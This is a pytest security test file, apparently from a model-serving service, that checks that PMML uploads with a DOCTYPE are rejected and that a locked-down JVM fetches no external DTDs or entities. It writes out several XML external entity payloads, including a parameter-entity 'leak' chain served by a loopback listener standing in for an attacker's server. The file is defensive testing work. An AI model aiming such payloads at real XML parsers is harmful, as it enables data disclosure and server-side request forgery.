"""PMML with a DOCTYPE: refused at upload, and the JVM that evaluates PMML fetches nothing
external even for a document that slipped past that check (issue 12, item 1).

A listener on 127.0.0.1 stands for the attacker's server: it must receive no request."""

import http.server
import json
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from django.conf import settings

from models_registry.models import RegisteredModel

TREE_IRIS = Path(__file__).resolve().parents[2] / "tests" / "data" / "pmml" / "tree_iris.pmml"


class Listener:
    """An HTTP server on a free loopback port that records every path asked for."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                # A parameter-entity chain as an attacker would serve it (never reached when we hold).
                body = f'<!ENTITY % leak SYSTEM "http://127.0.0.1:{self.server.server_address[1]}/leak">'.encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def with_doctype(doctype: str) -> str:
    """tree_iris.pmml, a valid model, with a DOCTYPE put in front of its root element."""
    text = TREE_IRIS.read_text()
    start = text.index("<PMML")
    return text[:start] + doctype + "\n" + text[start:]


def hostile_documents(url: str) -> dict[str, str]:
    return {
        "external dtd": with_doctype(f'<!DOCTYPE PMML SYSTEM "{url}/x.dtd">'),
        "public dtd": with_doctype(f'<!DOCTYPE PMML PUBLIC "-//x//y" "{url}/public.dtd">'),
        "external parameter entity": with_doctype(f'<!DOCTYPE PMML [<!ENTITY % remote SYSTEM "{url}/param.dtd"> %remote;]>'),
        "external general entity": with_doctype(f'<!DOCTYPE PMML [<!ENTITY remote SYSTEM "{url}/general">]>').replace(
            'description="A decision tree', 'description="&remote; A decision tree', 1
        ),
    }


def upload(api, name: str, content: str):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return api.post(
        "/api/v1/models", {"name": name, "file": SimpleUploadedFile("model.pmml", content.encode())}, format="multipart"
    )


@pytest.mark.parametrize("kind", ["external dtd", "public dtd", "external parameter entity", "external general entity"])
def test_it_refuses_a_pmml_with_an_external_reference_and_fetches_nothing(api, listener, kind):
    response = upload(api, "hostile", hostile_documents(listener.url)[kind])
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "unsafe_xml"
    assert "DOCTYPE" in error["message"]
    assert listener.hits == []
    assert not RegisteredModel.objects.exists()


def test_it_refuses_a_doctype_that_declares_nothing(api):
    response = upload(api, "plain-doctype", with_doctype("<!DOCTYPE PMML>"))
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "unsafe_xml"


def test_the_same_model_without_a_doctype_is_accepted(api):
    assert upload(api, "clean", TREE_IRIS.read_text()).status_code == 201


# The JVM on its own, bypassing the Python check: pypmml loads each document from a string
# and from a file in a fresh JVM started with the given options, in a process of its own.
JVM_PROBE = """
import json, sys, tempfile
from pypmml.base import PMMLContext
from pypmml import Model

java_opts, documents = json.loads(sys.stdin.read())
PMMLContext.getOrCreate(java_opts=java_opts)
loaded = {}
for name, text in documents.items():
    for how in ("string", "file"):
        try:
            if how == "string":
                Model.fromString(text)
            else:
                with tempfile.NamedTemporaryFile("w", suffix=".pmml", delete=False) as f:
                    f.write(text)
                Model.fromFile(f.name)
            loaded[f"{name} ({how})"] = True
        except Exception:
            loaded[f"{name} ({how})"] = False
print(json.dumps(loaded))
"""


def run_jvm(java_opts: list[str], documents: dict[str, str]) -> subprocess.Popen:
    process = subprocess.Popen(
        [sys.executable, "-c", JVM_PROBE], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    process.stdin.write(json.dumps([java_opts, documents]))
    process.stdin.close()
    return process


def test_the_jvm_alone_fetches_no_external_dtd_or_entity(listener):
    documents = hostile_documents(listener.url)
    # Our options, and (as a control that the probe can see a fetch at all) the JVM's defaults.
    locked = run_jvm(settings.MLSERVE_PMML_JAVA_OPTS.split(), documents)
    locked.wait(timeout=120)
    assert locked.returncode == 0, locked.stderr.read()[-2000:]
    assert listener.hits == []

    control_listener = Listener()
    try:
        control = run_jvm(["-Xmx256m"], hostile_documents(control_listener.url))
        control.wait(timeout=120)
        assert control.returncode == 0, control.stderr.read()[-2000:]
        assert control_listener.hits, "without the options the JVM should have fetched the DTD"
    finally:
        control_listener.close()


def test_the_lockdown_stays_when_an_operator_sets_their_own_java_options():
    import os

    root = Path(__file__).resolve().parents[2]
    printed = subprocess.run(
        [sys.executable, "-c", "import mlserve.settings as s; print(s.MLSERVE_PMML_JAVA_OPTS)"],
        cwd=root, env={**os.environ, "MLSERVE_PMML_JAVA_OPTS": "-Xmx4g"}, capture_output=True, text=True, check=True,
    )
    options = printed.stdout.split()
    assert options[-1] == "-Xmx4g"
    assert "-Djavax.xml.accessExternalDTD=" in options and "-Djavax.xml.accessExternalSchema=" in options
